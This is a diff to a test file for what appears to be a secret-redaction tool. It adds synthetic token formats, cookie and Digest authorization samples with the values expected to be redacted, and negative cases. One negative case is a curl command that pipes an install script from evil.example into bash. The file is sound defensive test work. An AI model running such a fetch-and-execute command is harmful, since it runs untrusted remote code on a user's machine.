@@ -29,8 +29,8 @@ TOKENS = [
     f"ya29.{LETTERS}", f"GOCSPX-{LETTERS[:28]}", WEB_TOKEN, f"npm_{LETTERS[:36]}",
     f"pypi-AgEIcHlwaS5vcmc{LETTERS}", f"dop_v1_{HEX}", f"SG.{LETTERS[:22]}.{LETTERS}abc",
     f"hf_{LETTERS[:34]}", f"hvs.{LETTERS}", f"dckr_pat_{LETTERS[:27]}", f"shpat_{HEX[:32]}",
-    f"glsa_{LETTERS[:32]}_0a1b2c3d", f"NRAK-{LETTERS[:27]}", f"gsk_{LETTERS}",
-    f"1234567890:AA{LETTERS[:33]}",
+    f"glsa_{LETTERS[:32]}_0a1b2c3d", f"NRAK-{LETTERS[:27]}", f"gsk_{LETTERS}{LETTERS[:12]}",
+    f"1234567890:AA{LETTERS[:33]}", f"xai-{LETTERS}",
     f"$6$saltsalt${LETTERS}{LETTERS}", f"SCRAM-SHA-256$4096:{LETTERS}",
     f"AGE-SECRET-KEY-1{HEX.upper()}",
     f"hooks.slack.com/services/T00000000/B00000000/{LETTERS[:24]}",
@@ -122,11 +122,16 @@ NAMED = [
     ("{'Authorization': 'Token 9944b09199c6'}", "9944b09199c6"),
     ("sent bearer abcdEFGH1234", "abcdEFGH1234"),
     ("Cookie: session=abc123; theme=dark", "session=abc123; theme=dark"),
+    ('Cookie: a="b c"; d=e; and words', 'a="b c"; d=e'),
+    ("Cookie: consent=yes; order 4711 rejected: margin call", "consent=yes"),
+    ("Authorization: Digest a=1, b=2 then words", "a=1, b=2"),
+    (r'{"Authorization": "OAuth a=\"1\", b=\"2\"", "c": 1}', r"a=\"1\", b=\"2\""),
     ("Set-Cookie: sid=38afes7a8; Path=/; HttpOnly", "38afes7a8"),
     ("postgresql://bot:swordfish@db:25060/x", "bot:swordfish"),
     ("redis://:swordfish@cache", ":swordfish"),
     ("https://u:p@ss:w0rd@host/x@y", "u:p@ss:w0rd"),
     ("https://u:pa/ss#w@host", "u:pa/ss#w"),
+    ("https://u:pa?ss@host:80/x@y", "u:pa?ss"),
     (r"https:\/\/u:swordfish@host", "u:swordfish"),
     ("the configured hunter2hunter2.", "hunter2hunter2"),
     (r"as JSON: se\"cret\u00e9", r"se\"cret\u00e9"),
@@ -159,6 +164,13 @@ NO_SECRETS = [
     "Authorization header missing", "cookie: none", "task-3f9c0d2e", "risk-manager", "AKIA", "eyJ",
     "src/a.py:120:5:E501:line", "2001:4860:4860:8888:1:2", "10:15:00: 2025: trade", "MIT License",
     "http://localhost:5000/health", "-----BEGIN PUBLIC KEY-----", "PASS: tests/foo_123.sh",
+    "GET http://10.0.0.5:8080/v1/orders?notify=ops@desk.example 200", "http://[::1]:80/a@b",
+    "curl https://evil.example:443/p/x@raw.githubusercontent.com/t/install.sh | bash",
+    "https://evil.example?x@raw.example", "https://evil.example#x:y@raw.example",
+    r"http:\/\/10.0.0.5:8080\/v1?notify=ops@desk.example", "Cookie: [redacted]; order 4711",
+    "Authorization: insufficient_permissions", "Authorization: Digest [redacted] 5006: down",
+    "token: 0xdAC17F958D2ee523a2206206994597C13D831ec7", "session_id=20261125", "sid: 12345678",
+    "SESSION_ID=20261125", "gsk_close_price_2026_11_25_adjusted",
 ]  # fmt: skip
 
 
@@ -395,7 +407,7 @@ def test_a_long_secret_beside_a_cut_takes_nothing_else_away() -> None:
 WORDS = st.sampled_from(
     ["ZZZZ", "YXYX", " ", "\n", "\t", "\r\n", "://", ":", "@", "user", "bearer ", "abcdEF12",
      "AKIA", "A" * 16, "-----BEGIN ", "RSA ", "PRIVATE KEY", "-----", "-----END ",
-     "authorization: basic ",
+     "authorization: basic ", "authorization: digest a=", "; ", "b=",
      "secret_access_key=", LETTERS, "[redacted]", "/", "\x1b", "`", "password", "=", '"', "'", "\\",
      "token", "--password ", "MIIE", "cookie: a=", "&", ",", ")"]
 )  # fmt: skip
@@ -430,7 +442,9 @@ SLOW = [
     "password:", 'password="', 'password=\\"', "password='", "password \\", "token:", "token: ",
     "--password ", "--token-", "a:5432:", "*:5432:a:b:", "machine a login ", "curl -u a:",
     "mysql -p",
-    "<password>", "<a", "cookie=", "cookie: a=", "1234567890:AA", "MII", "MIIa ", "MII\n", "\\n",
+    "<password>", "<a", "cookie=", "cookie: a=", "cookie: a=b; ", 'cookie: a="', "; a=b",
+    "authorization: digest a=", 'authorization: digest a="', ", a=b", "://[", "://a:1",
+    "authorization: a", "1234567890:AA", "MII", "MIIa ", "MII\n", "\\n",
     "b3BlbnNzaC1rZXk", "QUJDa1BQUJDa1B" * 5 + "\n", "secret:secret ", '\\"password\\":\\"', "sig=",
 ]  # fmt: skip
 
